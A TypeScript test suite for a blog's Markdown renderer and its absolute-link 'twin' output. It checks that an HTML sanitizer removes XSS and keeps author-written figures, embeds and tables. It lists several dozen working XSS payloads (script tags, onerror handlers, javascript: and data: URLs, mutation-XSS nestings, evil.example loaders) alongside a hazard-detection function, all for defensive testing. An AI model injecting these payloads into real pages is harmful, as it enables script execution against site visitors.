/**
 * Raw HTML in a post, through the allow-list: what authors write by hand reaches the page and the
 * twin; the usual XSS vectors, mutation XSS included, reach neither. Each output is read tag by
 * tag, attribute by attribute, as a browser's tokenizer would split it.
 */
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/build/site/render/markdown.ts';
import { srcsetCandidates } from '../src/build/site/render/srcset.ts';
import { twinMarkdown } from '../src/build/site/render/twin.ts';

const PAGE = 'https://blog.example/blog/post/';

/** A twin as an agent or a Markdown viewer shows it: CommonMark, raw HTML passed through. */
const viewer = new MarkdownIt({ html: true });
const shownTwin = (markdown: string) => viewer.render(twinMarkdown(markdown, PAGE));

/** Every start tag of an HTML text: its name and attributes (quoted values taken whole). */
function startTags(html: string): { name: string; attributes: [string, string][] }[] {
  const tags = html.matchAll(
    /<([A-Za-z][^\s/>]*)((?:\s*\/?\s*[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/g,
  );
  return [...tags].map((tag) => ({
    name: (tag[1] as string).toLowerCase(),
    attributes: [
      ...(tag[2] ?? '').matchAll(/([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g),
    ].map((a): [string, string] => [(a[1] as string).toLowerCase(), a[2] ?? a[3] ?? a[4] ?? '']),
  }));
}

const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'style',
  'svg',
  'math',
  'noscript',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'base',
  'meta',
  'link',
  'frame',
  'frameset',
  'template',
  'textarea',
  'select',
  'option',
  'xmp',
  'plaintext',
  'noembed',
  'noframes',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'poster',
  'cite',
  'action',
  'formaction',
  'srcset',
  'xlink:href',
]);
const RASTER = /^data:image\/(?:png|gif|jpe?g|webp|avif)[;,]/i;

/** The reasons an HTML text is unsafe; none for a safe one. */
function hazards(html: string): string[] {
  const found: string[] = [];
  for (const { name, attributes } of startTags(html)) {
    if (FORBIDDEN_ELEMENTS.has(name)) found.push(`<${name}>`);
    for (const [attribute, value] of attributes) {
      const url = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase();
      if (attribute.startsWith('on')) found.push(`${name} ${attribute}`);
      if (attribute === 'style' && !/^text-align:(left|right|center);?$/.test(url))
        found.push(`${name} style=${value}`);
      if (URL_ATTRIBUTES.has(attribute) && /^(javascript|vbscript|data):/.test(url) && !RASTER.test(url))
        found.push(`${name} ${attribute}=${value}`);
      if (
        name === 'iframe' &&
        attribute === 'src' &&
        !/^https:\/\/(www\.youtube-nocookie\.com|player\.vimeo\.com)\//.test(url)
      )
        found.push(`iframe src=${value}`);
    }
  }
  return found;
}

/** The usual XSS vectors, mutation XSS among them, each as an author could write it in a post. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<div style="position:fixed;inset:0;background:white">covering the page</div>',
  '<p style="display:none">hidden</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)" src="/v.mp4"></video>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<table><td background="javascript:alert(1)">x</td></table>',
  '<a href="/ok" onmouseover="alert(1)">hover</a>',
  '<img src="x" srcset="javascript:alert(1) 1x">',
  '<picture><source srcset="data:text/html,x"><img src="/a.png" alt=""></picture>',
];

/**
 * Raw HTML beside backticks: where the twin must read code spans as CommonMark does, and where
 * what sanitizing takes away must change neither the spans nor the line's kind.
 */
const BESIDE_BACKTICKS = [
  // Backticks that open no code span, as CommonMark reads them: the HTML after them is raw HTML.
  '`<script>alert(1)</script>``',
  '\\`<img src=x onerror=alert(1)>`',
  '``<img src=x onerror=alert(1)>`',
  // What sanitizing takes away must not leave a line that opens an HTML block, code spans and all.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>``<script>alert(1)</script>``',
  '<noscript><p title="x"></noscript>\n`<script>alert(1)</script>`',
  // Nor join a code span's backticks to others, so that the span closes nothing.
  '``<script>alert(1)</script>``<!--x-->``<img src=x onerror=alert(1)>`',
  '`<img src=x onerror=alert(1)>`<!--x-->`',
  // A code span runs across the lines of a paragraph: the first line's backtick pairs with the
  // second's, and the span the second line was read with is one no longer.
  '`<noscript><p title="x"></noscript>\n`<script>alert(1)</script>`',
];

/** Where a vector can sit in Markdown: its own block, inline in a paragraph, inside a block of HTML, in a list. */
const PLACES: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `Some text ${vector} and more.`,
  (vector) => `<div>\n${vector}\n</div>`,
  (vector) => `<details>\n<summary>More</summary>\n\n${vector}\n\n</details>`,
  (vector) => `- an item ${vector}`,
  (vector) => `| a |\n|---|\n| ${vector} |`,
];

describe('raw HTML in a post', () => {
  it.each([...VECTORS, ...BESIDE_BACKTICKS])(
    'never reaches a page or a twin with its hazard: %s',
    (vector) => {
      for (const place of PLACES) {
        const markdown = `Before.\n\n${place(vector)}\n\nAfter.`;
        expect(hazards(renderMarkdown(markdown)), markdown).toEqual([]);
        expect(hazards(shownTwin(markdown)), markdown).toEqual([]);
      }
    },
  );

  it('escapes the HTML of a twin that a reader would not read as sanitized, and keeps its code blocks', () => {
    const code = '```html\n<script>keep()</script>\n```';
    const markdown = `\`<noscript><p title="x"></noscript>\n\`<script>alert(1)</script>\`\n\n${code}\n\nA <em>word</em>.`;
    const twin = twinMarkdown(markdown, PAGE);
    expect(twin).toContain('&lt;script>alert(1)&lt;/script>');
    expect(twin).toContain(code);
    expect(twin).toContain('A &lt;em>word&lt;/em>.');
    expect(hazards(viewer.render(twin))).toEqual([]);
  });

  it('keeps no hazard in any mix of vectors and Markdown (fast-check)', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS, ...BESIDE_BACKTICKS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '/>',
        '\n\n',
        '`',
        '\\`',
        '\n',
        '    ',
        '~~~\n',
        '<!--x-->',
        '<div>',
        '</div>',
        '<p title="',
        '">',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const markdown = pieces.join('');
        expect(hazards(renderMarkdown(markdown))).toEqual([]);
        expect(hazards(shownTwin(markdown))).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it('keeps what authors write by hand: figures, pictures, media with controls, details, embeds, keys, tables', () => {
    const markdown = [
      '<figure>',
      '  <picture><source srcset="/a.avif" type="image/avif"><img src="/a.png" alt="A diagram" width="640"></picture>',
      '  <figcaption>A <em>diagram</em>.</figcaption>',
      '</figure>',
      '',
      '<details>',
      '<summary>Why?</summary>',
      '',
      'Because **Markdown** inside works.',
      '',
      '</details>',
      '',
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="A talk" allowfullscreen></iframe>',
      '',
      '<video src="/clip.mp4" autoplay></video>',
      '',
      'Press <kbd>Ctrl</kbd>, x<sup>2</sup>, H<sub>2</sub>O.',
      '',
      '<table><tr><th>a</th><td>1</td></tr></table>',
      '',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
    ].join('\n');
    const page = renderMarkdown(markdown);
    expect(page).toContain('<figure>');
    expect(page).toContain('<source srcset="/a.avif" type="image/avif" />');
    expect(page).toContain('<img src="/a.png" alt="A diagram" width="640" />');
    expect(page).toContain('<figcaption>A <em>diagram</em>.</figcaption>');
    expect(page).toMatch(
      /<details>\s*<summary>Why\?<\/summary>\s*<p>Because <strong>Markdown<\/strong> inside works.<\/p>\s*<\/details>/,
    );
    expect(page).toContain(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="A talk" allowfullscreen></iframe>',
    );
    expect(page).toContain('<video src="/clip.mp4" controls></video>');
    expect(page).toContain('Press <kbd>Ctrl</kbd>, x<sup>2</sup>, H<sub>2</sub>O.');
    expect(page).toContain('<th>a</th><td>1</td>');
    expect(page).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline" />');

    const twin = twinMarkdown(markdown, PAGE);
    expect(twin).toContain('<img src="https://blog.example/a.png" alt="A diagram" width="640" />');
    expect(twin).toContain(
      '<details>\n<summary>Why?</summary>\n\nBecause **Markdown** inside works.\n\n</details>',
    );
    expect(twin).toContain(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="A talk" allowfullscreen></iframe>',
    );
    expect(twin).toContain('<video src="https://blog.example/clip.mp4" controls>');
  });

  it('makes every link and image of a twin absolute, and leaves code as written', () => {
    const markdown = [
      '[a post](/blog/other/), [relative](../sibling/), [a section](#why), [out](https://elsewhere.example/x)',
      '![an image](./cover.png "Cover") and <a href="/tags/http/">a tag</a>',
      '',
      '[ref]: /blog/ref/',
      '',
      'See `[not a link](/code/)` and:',
      '',
      '```md',
      '[kept](/as-is/) <script>kept</script>',
      '```',
    ].join('\n');
    expect(twinMarkdown(markdown, PAGE)).toBe(
      [
        '[a post](https://blog.example/blog/other/), [relative](https://blog.example/blog/sibling/), [a section](https://blog.example/blog/post/#why), [out](https://elsewhere.example/x)',
        '![an image](https://blog.example/blog/post/cover.png "Cover") and <a href="https://blog.example/tags/http/">a tag</a>',
        '',
        '[ref]: https://blog.example/blog/ref/',
        '',
        'See `[not a link](/code/)` and:',
        '',
        '```md',
        '[kept](/as-is/) <script>kept</script>',
        '```',
      ].join('\n'),
    );
  });

  it.each([
    ['a protocol-relative Markdown link', '[x](//elsewhere.example/a)'],
    ['a protocol-relative raw-HTML link', '<a href="//elsewhere.example/b">x</a>'],
    ['a protocol-relative image', '<img src="//cdn.example/i.png" alt="">'],
    ['a Markdown link with a backslash', '[x](/\\elsewhere.example)'],
    ['srcset candidates', '<img src="/a.png" srcset="/a.png 1x, ./b.png 2x, //cdn.example/c.png 3x" alt="">'],
    [
      'a picture',
      '<picture><source srcset="./a.avif 1x,/b.avif 2x" type="image/avif"><img src="./a.png" alt=""></picture>',
    ],
    ['an embed', '<iframe src="//www.youtube-nocookie.com/embed/x" title="A talk"></iframe>'],
  ])('leads page and twin to the same addresses, the twin’s absolute: %s', (_, written) => {
    // With other raw HTML in the body and without: pages of bodies without any skip the sanitizer.
    for (const markdown of [written, `<div>A block.</div>\n\n${written}`]) {
      const page = addressesOf(renderMarkdown(markdown)).map((url) => new URL(url, PAGE).href);
      const twin = addressesOf(shownTwin(markdown));
      expect(page.length, markdown).toBeGreaterThan(0);
      expect(twin, markdown).toEqual(page);
      expect(twin.filter((url) => !url.startsWith('https://'))).toEqual([]);
    }
  });
});

/** Every address the start tags of an HTML text name: `href`, `src`, `poster`, each `srcset` candidate. */
function addressesOf(html: string): string[] {
  return startTags(html).flatMap(({ attributes }) =>
    attributes.flatMap(([name, value]) => {
      if (name === 'srcset') return srcsetCandidates(value).map(({ url }) => url);
      return ['href', 'src', 'poster'].includes(name) ? [value] : [];
    }),
  );
}
